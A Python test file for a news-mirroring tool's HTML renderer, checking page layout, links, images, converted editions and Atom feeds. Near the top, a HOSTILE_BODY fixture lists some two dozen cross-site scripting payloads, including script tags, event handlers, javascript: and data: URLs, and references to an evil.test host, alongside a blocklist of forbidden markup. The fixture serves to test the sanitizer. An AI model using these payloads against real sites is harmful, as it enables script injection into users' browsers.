"""The HTML edition, rendered from records (no browser): layout, anatomy, links, sanitizing, images, editions, feeds.

`synthetic_site` is shared with the browser tests (tests/test_html_browser.py).
"""

from __future__ import annotations

import io
import posixpath
import re
from pathlib import Path
from xml.etree import ElementTree as ET

from PIL import Image

from newsmirror.config import Config, parse_config
from newsmirror.records import Article, ArticleState, ImageRef, RenderedFile
from newsmirror.editions.html import render_site, site_css
from newsmirror.editions.worker import REGISTER, REGISTER_HASH

CONFIG = """
[mirror]
title = "测试镜像"
description = "一个用来测试的镜像。"
language = "zh"
public_base_urls = ["https://mirror.example/news/"]
index_page_size = 3
promo_markdown = "本页是**镜像**，[关于](https://example.org/about)。"

[labels]
home = "首页"
hot = "热点推荐"
original = "原文地址"
share = "分享本页"

[editions]
convert = "s2t"

[channels.city]
title = "城市生活"

[channels.world]
title = "World"

[[menu]]
label = "关于"
url = "https://example.org/about"

[[sources]]
name = "city"
kind = "urls"
channel = "city"
urls = ["https://src.example/city/1.html"]

[[sources]]
name = "world"
kind = "urls"
channel = "world"
urls = ["https://src.example/world/1.html"]
"""

ZH_PARAGRAPH = ("上周六早上七点，青石巷口的听雨楼茶馆门前已经排起了长队。这家始建于清朝末年的老茶馆，经过一年多的修缮，"
                "终于重新开门迎客。许多老茶客天不亮就赶来，只为抢到靠窗的那张老位置。")
EN_PARAGRAPH = ("The council agreed on Tuesday to build a new footbridge across the river, linking the two halves of "
                "the old town for the first time since the flood.")
IMAGE_A = "assets/ab/abcdef0123456789.webp"
IMAGE_B = "assets/cd/cdef0123456789ab.jpg"
IMAGE_LEAD = "assets/ef/ef0123456789abcd.png"

HOSTILE_BODY = """
<p>Before the attack<script>window.__pwned = 1; alert(1); document.title = "pwned"</script></p>
<img src="x" onerror="window.__pwned = 2; alert(2)">
<p><a href="javascript:window.__pwned=3;alert(3)">js link</a> <a href="JaVaScRiPt:alert(4)">js link 2</a>
<a href=" &#14;javascript:alert(5)">js link 3</a></p>
<iframe src="javascript:alert(6)"></iframe><iframe srcdoc="<script>alert(7)</script>"></iframe>
<form action="https://evil.test/collect"><input name="x" autofocus onfocus="alert(8)">
<button formaction="javascript:alert(9)">go</button></form>
<meta http-equiv="refresh" content="0;url=javascript:alert(10)">
<svg onload="alert(11)"><script>alert(12)</script><animate onbegin="alert(13)"></animate></svg>
<p style="background:url(javascript:alert(14));width:expression(alert(15))">styled text</p>
<style>body { background: url("https://evil.test/bg.png") } * { x: expression(alert(16)) }</style>
<object data="javascript:alert(17)"></object><embed src="https://evil.test/x.swf">
<base href="https://evil.test/"><link rel="stylesheet" href="https://evil.test/x.css">
<img src="//evil.test/pixel.gif" alt="protocol-relative image">
<img src="data:image/svg+xml,&lt;svg onload=alert(18)&gt;" alt="data image">
<a href="data:text/html,&lt;script&gt;alert(19)&lt;/script&gt;">data link</a>
<math><mi xlink:href="javascript:alert(20)">x</mi></math>
<noscript><p title="</noscript><img src=x onerror=alert(21)>"></p></noscript>
<details open ontoggle="alert(22)"><summary>d</summary>details</details>
<video autoplay><source onerror="alert(23)"></video>
<p onclick="alert(24)" onmouseover="alert(25)">clickable paragraph</p>
<p>After the attack: 正文仍然在这里。</p>
"""
HOSTILE_TITLE = 'Hostile <script>alert("title")</script> 标题'
FORBIDDEN = ["<script", "onerror", "onload", "onclick", "onmouseover", "onfocus", "ontoggle", "onbegin",
             "javascript:", "<iframe", "<form", "<input", "<button", "http-equiv=\"refresh\"", "<svg", "<math",
             "expression(", "<object", "<embed", "<base", "<link", "evil.test", "data:", "srcdoc", "<noscript",
             "<video", "style=", "<details"]


def state(article_id: str, channel: str, title: str, day: int, channels: tuple[str, ...] = ()) -> ArticleState:
    return ArticleState(
        id=article_id, url=f"https://src.example/{channel}/{article_id}.html", channel=channel,
        channels=channels or (channel,), title=title, published=f"2026-03-{day:02d}T08:00:00+00:00", status="ok",
        attempts=0, next_retry=None, source_version=None, content_hash="x", first_seen="2026-03-01T00:00:00+00:00",
    )


def article_for(s: ArticleState, body: str, lead: ImageRef | None = None, language: str = "zh",
                title: str | None = None) -> Article:
    return Article(url=s.url, title=title or s.title or "", text=re.sub(r"<[^>]+>", "", body), body_html=body,
                   published=s.published, author="林雨桐", lead_image=lead, language=language)


def corpus() -> tuple[list[tuple[ArticleState, Article]], dict[str, list[ArticleState]]]:
    """Eight city articles (two archive pages at index_page_size 3), two world ones, one listed in both."""
    pairs = []
    city = [state(f"city-{n}", "city", f"城市新闻第{n}条：茶馆重新开门", n + 1) for n in range(1, 9)]
    world = [state("bridge", "world", "A new footbridge for the old town", 20, ("world", "city")),
             state("hostile", "world", HOSTILE_TITLE, 21)]
    rich = city[-1]
    rich_body = (f"<p>{ZH_PARAGRAPH}</p><figure><img src=\"{IMAGE_A}\" alt=\"修缮后的茶馆内景\" width=\"320\" "
                 f"height=\"200\"><figcaption>修缮后的茶馆内景。摄影：林雨桐</figcaption></figure>"
                 f"<h2>修旧如旧</h2><p>{ZH_PARAGRAPH}<a href=\"{world[0].url}\">新桥</a>，"
                 f"<a href=\"https://elsewhere.example/开门.html\">外部链接</a>。</p>"
                 f"<figure><img src=\"{IMAGE_B}\" alt=\"老茶桌\"><figcaption>老茶桌</figcaption></figure>"
                 f"<figure><img src=\"https://cdn.src.example/remote.jpg\" alt=\"远程图片\">"
                 f"<figcaption>还没有复制到本地的图片</figcaption></figure>")
    for s in city:
        body = rich_body if s is rich else f"<p>{ZH_PARAGRAPH}</p>"
        lead = ImageRef(IMAGE_LEAD, "题图", "题图说明：青石巷") if s is rich else None
        pairs.append((s, article_for(s, body, lead)))
    pairs.append((world[0], article_for(world[0], f"<p>{EN_PARAGRAPH}</p>", language="en")))
    pairs.append((world[1], article_for(world[1], HOSTILE_BODY, ImageRef("javascript:alert(26)", "x", "y"),
                                        language="en")))
    newest_first = lambda states: sorted(states, key=lambda s: s.published, reverse=True)  # noqa: E731
    channels = {"city": newest_first(city + [world[0]]), "world": newest_first(world)}
    return pairs, channels


def config_for(tmp: Path | None = None, **editions: object) -> Config:
    config = parse_config(CONFIG, (tmp or Path("/nonexistent")) / "newsmirror.toml", tmp or Path("/nonexistent"))
    if editions:
        config = config.model_copy(update={"editions": config.editions.model_copy(update=editions)})
    return config


def render(config: Config, hot: list[ArticleState] | None = None) -> dict[str, bytes]:
    pairs, channels = corpus()
    pages_by_url = {s.url: f"pages/{s.channel}/{s.id}.md" for s, _ in pairs}
    records = {s.id: a for s, a in pairs}
    files = render_site(config, pairs, channels, hot or [], pages_by_url, records=records.get)
    paths = [f.path for f in files]
    assert len(paths) == len(set(paths)), "a file rendered twice"
    return {f.path: f.content for f in files}


def write_images(root: Path) -> None:
    """Small real images at the asset paths the corpus uses."""
    for path, size, color, kind in ((IMAGE_A, (320, 200), (200, 120, 40), "WEBP"),
                                    (IMAGE_B, (240, 160), (40, 120, 200), "JPEG"),
                                    (IMAGE_LEAD, (400, 225), (30, 160, 90), "PNG")):
        target = root / path
        target.parent.mkdir(parents=True, exist_ok=True)
        buffer = io.BytesIO()
        Image.new("RGB", size, color).save(buffer, kind)
        target.write_bytes(buffer.getvalue())


def synthetic_site(root: Path, **editions: object) -> tuple[Config, dict[str, bytes]]:
    """Render the corpus into `root` (a mirror root): the HTML edition plus real images under assets/."""
    config = config_for(root.parent, **editions).model_copy(
        update={"mirror": config_for().mirror.model_copy(update={"output": root.name})})
    files = render(config)
    for path, content in files.items():
        (root / path).parent.mkdir(parents=True, exist_ok=True)
        (root / path).write_bytes(content)
    write_images(root)
    return config, files


def text(files: dict[str, bytes], path: str) -> str:
    return files[path].decode("utf-8")


def article_part(page: str) -> str:
    return page.split("<article data-pagefind-body>", 1)[1].split("</article>", 1)[0]


# -- layout ---------------------------------------------------------------------------------------------------


def test_layout_of_both_editions():
    files = render(config_for())
    for root in ("site", "site/zh-hant"):
        expected = {"index.html", "indexes/city.html", "indexes/city-1.html", "indexes/city-2.html",
                    "indexes/world.html", "indexes/hot.html", "pages/city/city-8.html", "pages/city/city-8.png",
                    "pages/world/bridge.html", "pages/world/bridge.png", "feeds/city.xml", "feeds/world.xml",
                    "feeds/all.xml", "search.html"}
        assert {f"{root}/{p}" for p in expected} <= set(files)
    assert "site/search.js" in files
    assert all(p.startswith("site/") for p in files)
    assert files["site/pages/city/city-8.png"].startswith(b"\x89PNG")


def test_rendering_is_deterministic():
    assert render(config_for()) == render(config_for())


def test_article_anatomy():
    files = render(config_for())
    page = text(files, "site/pages/city/city-8.html")
    nav = re.search(r"<nav data-pagefind-ignore>.*?</nav>", page).group(0)
    assert page.count(nav) == 2  # menu at the top and at the bottom
    assert '<a href="../../index.html">首页</a>' in nav and '<a href="../../indexes/city.html">城市生活</a>' in nav
    assert '<a href="../../indexes/hot.html">热点推荐</a>' in nav and 'href="https://example.org/about"' in nav
    assert 'class="sw" href="../../zh-hant/pages/city/city-8.html"' in nav  # the switch link
    share = "https://mirror.example/news/site/pages/city/city-8.html"
    marks = ["<h1>城市新闻第8条", nav, '<div class="promo"', f'src="../../../{IMAGE_LEAD}"', "题图说明", "修旧如旧",
             f"分享本页:</b> <a href=\"{share}\"", '<img src="city-8.png" alt="QR code" width="', "原文地址:",
             'href="https://src.example/city/city-8.html"']
    positions = [page.index(m) for m in marks]
    assert positions == sorted(positions)
    assert page.rindex(nav) > positions[-1]
    assert "<strong>镜像</strong>" in page  # the promo's Markdown
    assert '<html lang="zh">' in page


def test_every_internal_link_resolves(tmp_path):
    config, files = synthetic_site(tmp_path / "mirror")
    root = tmp_path / "mirror"
    for path, content in files.items():
        if not path.endswith(".html"):
            continue
        for attribute, link in re.findall(r'\s(href|src)="([^"]*)"', content.decode()):
            if link.startswith(("https://", "http://", "data:")):
                assert attribute == "href" or link.startswith("data:"), (path, link)  # never loaded, only linked
                continue
            assert not link.startswith("/"), (path, link)
            target = posixpath.normpath(posixpath.join(posixpath.dirname(path), link.split("?")[0]))
            if target.startswith(("site/pagefind/", "site/zh-hant/pagefind/")):
                continue  # written by build_search
            assert (root / target).is_file(), (path, link)


def test_nothing_loads_from_another_host():
    files = render(config_for())
    for path, content in files.items():
        if path.endswith(".html"):
            page = content.decode()
            for tag in re.findall(r"<(?:img|script|link|source|video|audio|iframe|embed|object)\b[^>]*>", page):
                for url in re.findall(r'(?:src|href)="([^"]*)"', tag):
                    assert not re.match(r"^(https?:)?//", url), (path, tag)
            assert page.count('http-equiv="Content-Security-Policy"') == 1


def test_csp_scripts_only_on_the_search_page():
    """Besides the search page's, the one script is the service worker's registration line, allowed by its hash."""
    files = render(config_for())
    article = text(files, "site/pages/city/city-8.html")
    assert f"script-src {REGISTER_HASH};" in article and "default-src 'self'" in article
    assert re.findall(r"<script[^>]*>[^<]*</script>", article) == [
        f'<script data-sw="../../sw.js">{REGISTER}</script>']
    config = config_for()
    off = config.model_copy(update={"editions": config.editions.model_copy(update={"service_worker": False})})
    article = text(render(off), "site/pages/city/city-8.html")
    assert "script-src 'none'" in article and "<script" not in article and "worker-src" not in article
    search = text(files, "site/search.html")
    assert f"script-src 'self' 'wasm-unsafe-eval' {REGISTER_HASH}" in search
    assert '<script src="pagefind/pagefind-ui.js" defer>' in search and '<script src="search.js" defer>' in search
    assert '<script src="../search.js" defer>' in text(files, "site/zh-hant/search.html")


def test_images_local_relative_remote_placeholder():
    files = render(config_for())
    page = article_part(text(files, "site/pages/city/city-8.html"))
    assert f'src="../../../{IMAGE_A}"' in page and f'src="../../../{IMAGE_B}"' in page
    assert "cdn.src.example" not in page
    assert '<span class="ph" role="img" aria-label="Image not available: 远程图片">Image not available: 远程图片</span>' in page
    converted = article_part(text(files, "site/zh-hant/pages/city/city-8.html"))
    assert f'src="../../../../{IMAGE_A}"' in converted and "遠程圖片" in converted


def test_remote_images_kept_when_localisation_is_off():
    config = config_for()
    config = config.model_copy(update={"images": config.images.model_copy(update={"localise": False})})
    page = text(render(config), "site/pages/city/city-8.html")
    assert 'src="https://cdn.src.example/remote.jpg"' in page and 'referrerpolicy="no-referrer"' in page
    assert "img-src 'self' data: https: http:" in page


def test_in_body_links_point_to_html_pages():
    files = render(config_for())
    page = article_part(text(files, "site/pages/city/city-8.html"))
    assert '<a href="../world/bridge.html" rel="noopener noreferrer">新桥</a>' in page
    assert 'href="https://elsewhere.example/' in page
    converted = article_part(text(files, "site/zh-hant/pages/city/city-8.html"))
    assert '<a href="../world/bridge.html" rel="noopener noreferrer">新橋</a>' in converted


def test_hostile_body_is_sanitized():
    files = render(config_for())
    for path in ("site/pages/world/hostile.html", "site/zh-hant/pages/world/hostile.html"):
        page = text(files, path)
        body = article_part(page)
        for needle in FORBIDDEN:
            assert needle not in body.lower(), (path, needle)
        assert "After the attack" in body and "clickable paragraph" in body and "styled text" in body
        assert "&lt;script&gt;" in page and page.count("<script") == 1  # the hostile title, escaped; our worker
        assert page.count("<style>") == 1  # our own CSS only


def test_links_carry_variation_when_configured():
    config = config_for()
    config = config.model_copy(update={"mirror": config.mirror.model_copy(update={"link_variation": True})})
    files = render(config)
    page = text(files, "site/pages/city/city-8.html")
    assert 'href="../../index.html?city-8"' in page and 'href="../world/bridge.html?city-8"' in page
    assert 'href="pages/city/city-8.html?home"' in text(files, "site/index.html")


def test_counter_pixel_uses_the_html_path_and_is_allowed_by_the_csp():
    config = config_for()
    settings = config.mirror.model_copy(update={"counter_pixel": "https://count.example/p/{path}"})
    page = text(render(config.model_copy(update={"mirror": settings})), "site/pages/city/city-8.html")
    assert '<img src="https://count.example/p/site/pages/city/city-8.html" alt="" width="1" height="1"' in page
    assert "img-src 'self' data: https://count.example;" in page


# -- indexes, hot list, home ----------------------------------------------------------------------------------


def test_channel_index_and_archives_list_every_article_once():
    files = render(config_for())
    listed = []
    for name in ("city-1", "city-2", "city-3"):  # 9 entries, 3 a page: 3 full archive pages
        listed += re.findall(r'href="\.\./pages/\w+/([\w-]+)\.html"', text(files, f"site/indexes/{name}.html"))
    _, channels = corpus()
    assert sorted(listed) == sorted(s.id for s in channels["city"])
    front = text(files, "site/indexes/city.html")
    assert 'href="city-3.html">Older →' in front and "site/indexes/city-4.html" not in files
    assert 'href="city-2.html">← Newer' in text(files, "site/indexes/city-1.html")
    assert 'href="../feeds/city.xml">Atom' in front


def test_hot_list_ranked_and_deduplicated():
    pairs, _ = corpus()
    ranked = [pairs[3][0], pairs[1][0], pairs[3][0]]
    page = text(render(config_for(), hot=ranked), "site/indexes/hot.html")
    assert re.findall(r'href="\.\./pages/city/([\w-]+)\.html"', page) == ["city-4", "city-2"]
    assert "<ol" in page
    empty = text(render(config_for()), "site/indexes/hot.html")
    assert "No view counts yet" in empty


def test_home_lists_channels():
    page = text(render(config_for()), "site/index.html")
    assert "<h1>测试镜像</h1>" in page and "城市生活" in page and 'href="indexes/world.html"' in page
    assert 'href="feeds/all.xml"' in page


# -- converted edition ----------------------------------------------------------------------------------------


def test_converted_edition_converts_text_never_urls():
    files = render(config_for())
    original = text(files, "site/pages/city/city-8.html")
    converted = text(files, "site/zh-hant/pages/city/city-8.html")
    assert '<html lang="zh-Hant">' in converted
    assert "城市新聞第8條：茶館重新開門" in converted and "首頁" in converted and "熱點推薦" in converted
    assert "修繕後的茶館內景" in converted and "題圖說明" in converted and "鏡像" in converted
    assert 'class="sw" href="../../../pages/city/city-8.html" hreflang="zh-Hans" lang="zh-Hans">简体' in converted
    external = lambda page: [u for u in re.findall(r'href="([^"]*)"', page) if u.startswith("http")]  # noqa: E731
    share = "https://mirror.example/news/site/zh-hant/pages/city/city-8.html"
    assert [u.replace("/site/zh-hant/", "/site/") for u in external(converted)] == external(original)
    assert share in converted and "elsewhere.example/%E5%BC%80%E9%97%A8.html" in converted
    index = text(files, "site/zh-hant/indexes/city.html")
    assert "茶館重新開門" in index and 'href="../pages/city/city-8.html"' in index


def test_no_converted_edition_without_a_profile():
    files = render(config_for(convert=""))
    assert not any(p.startswith("site/zh-") for p in files)
    assert 'class="sw"' not in text(files, "site/pages/city/city-8.html")


def test_html_dir_and_search_switch():
    files = render(config_for(html_dir="www", search=False))
    assert "www/index.html" in files and not any(p.endswith("search.html") for p in files)
    assert "search.html" not in text(files, "www/pages/city/city-8.html")


# -- feeds ----------------------------------------------------------------------------------------------------

A = "{http://www.w3.org/2005/Atom}"


def test_atom_feeds():
    files = render(config_for(feed_size=4))
    feed = ET.fromstring(files["site/feeds/city.xml"])
    entries = feed.findall(f"{A}entry")
    assert len(entries) == 4
    updated = [e.findtext(f"{A}updated") for e in entries]
    assert feed.findtext(f"{A}updated") == max(updated) == "2026-03-20T08:00:00Z"
    link = entries[0].find(f"{A}link").get("href")
    assert link == "https://mirror.example/news/site/pages/world/bridge.html"
    assert entries[0].findtext(f"{A}id") == "https://src.example/world/bridge.html"
    assert entries[0].findtext(f"{A}summary").startswith("The council agreed")
    everything = ET.fromstring(files["site/feeds/all.xml"]).findall(f"{A}entry")
    assert len(everything) == 4 and everything[0].findtext(f"{A}title").startswith("Hostile")
    converted = ET.fromstring(files["site/zh-hant/feeds/city.xml"])
    titles = [e.findtext(f"{A}title") for e in converted.findall(f"{A}entry")]
    assert "城市新聞第8條：茶館重新開門" in titles


def test_atom_feed_without_public_url_is_relative():
    config = config_for()
    config = config.model_copy(update={"mirror": config.mirror.model_copy(update={"public_base_urls": []})})
    files = render(config)
    feed = ET.fromstring(files["site/feeds/world.xml"])
    assert feed.get("{http://www.w3.org/XML/1998/namespace}base") == "../"
    assert feed.find(f"{A}entry/{A}link").get("href") == "pages/world/hostile.html"
    assert "site/pages/world/hostile.png" not in files  # no public URL: no share block, no QR code
    assert "分享本页" not in text(files, "site/pages/world/hostile.html")


# -- size budget ----------------------------------------------------------------------------------------------


def test_page_budget_for_a_3000_character_article():
    assert len(site_css().encode()) < 3000
    s = state("long", "city", "一篇三千字的长文章：老城区的茶馆、夜市和绿道", 9)
    paragraphs = "".join(f"<p>{ZH_PARAGRAPH}</p>" for _ in range(3000 // len(ZH_PARAGRAPH) + 1))
    article = article_for(s, paragraphs)
    assert len(article.text) >= 3000
    files = render_site(config_for(), [(s, article)], {"city": [s]}, [], {s.url: "pages/city/long.md"})
    page = next(f for f in files if f.path == "site/pages/city/long.html")
    assert isinstance(page, RenderedFile) and len(page.content) <= 30_000, len(page.content)
